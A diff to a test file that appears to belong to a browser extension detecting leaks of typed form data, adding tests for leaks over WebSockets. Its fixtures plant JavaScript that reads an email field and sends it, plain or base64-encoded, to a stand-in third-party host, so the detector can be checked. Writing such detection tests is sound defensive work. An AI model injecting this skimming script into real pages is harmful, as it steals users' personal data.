@@ -25,7 +25,7 @@ from assistant.site.record.observation import (
     Watched,
 )
 from assistant.site.record.reading import ReadObservation, read_observation
-from tests.browse.stage import script
+from tests.browse.stage import script, web_socket
 from tests.extension.stage import Stage, staged, until
 from tests.servers import Response, Server, page, redirect
 from tests.site.test_analyze import analyzed, present
@@ -200,6 +200,63 @@ def test_what_is_typed_is_known_again_before_it_is_sent(
         (FieldKind.EMAIL, f"{away}/beacon", Channel.BEACON, (Encoding.SHA256,)),
     }
     assert not any(leak.submitted for leak in visit.leaks)
+
+
+SOCKET = """
+const field = document.querySelector("input[type=email]");
+const bytes = new TextEncoder();
+const socket = new WebSocket("AWAY/socket?v=1".replace("http", "ws"));
+socket.onopen = () => { document.title = "open"; };
+field.addEventListener("change", () => {
+  socket.send(JSON.stringify({ key: 1, text: field.value.slice(0, 5) }));
+  SENDS
+});
+"""
+
+
+@pytest.mark.parametrize(
+    ("sends", "leaks"),
+    [
+        ("socket.send(`m=${field.value}`);", [(Encoding.PLAIN,)]),
+        ("socket.send(bytes.encode(btoa(field.value)));", [(Encoding.BASE64,)]),
+        ("socket.send(bytes.encode(`xx${field.value}`).buffer);", [(Encoding.PLAIN,)]),
+        ("for (let n = 0; n < 99; n++) socket.send('hello there');", []),
+    ],
+    ids=["text", "view", "buffer", "something-else"],
+)
+def test_what_is_typed_is_known_again_on_a_web_socket(
+    shared: Stage, sites: Server, shop: Page, sends: str, leaks: list[tuple[Encoding, ...]]
+) -> None:
+    plant(sites, FORM, SOCKET.replace("SENDS", sends))
+    sites.answers["/socket?v=1"] = web_socket
+    shop.goto(sites.url("/", host="shop.test"))
+    shop.wait_for_function("document.title === 'open'")
+    tab = shared.tab_id(shop)
+    type_mail(shop)
+
+    found = read(shared, tab)
+    visit = found.observation.visits[0]
+
+    address = sites.url("/socket?v=", host="stats.test").replace("http", "ws")
+    assert visit.typed
+    assert [(leak.field, leak.url, leak.channel, leak.encodings) for leak in visit.leaks] == [
+        (FieldKind.EMAIL, address, Channel.WEBSOCKET, encodings) for encodings in leaks
+    ]
+    assert not found.cut
+    assert MAIL not in shared.evaluate(STORED)
+
+
+def test_a_message_that_cannot_be_read_is_told_as_lost(
+    shared: Stage, sites: Server, shop: Page
+) -> None:
+    plant(sites, FORM, SOCKET.replace("SENDS", "socket.send(new Blob([field.value]));"))
+    sites.answers["/socket?v=1"] = web_socket
+    shop.goto(sites.url("/", host="shop.test"))
+    shop.wait_for_function("document.title === 'open'")
+    tab = shared.tab_id(shop)
+    assert record(shared, tab)["lost"] == 0
+    type_mail(shop)
+    assert record(shared, tab)["lost"] > 0
 
 
 def test_the_report_names_what_was_planted(shared: Stage, sites: Server, shop: Page) -> None:
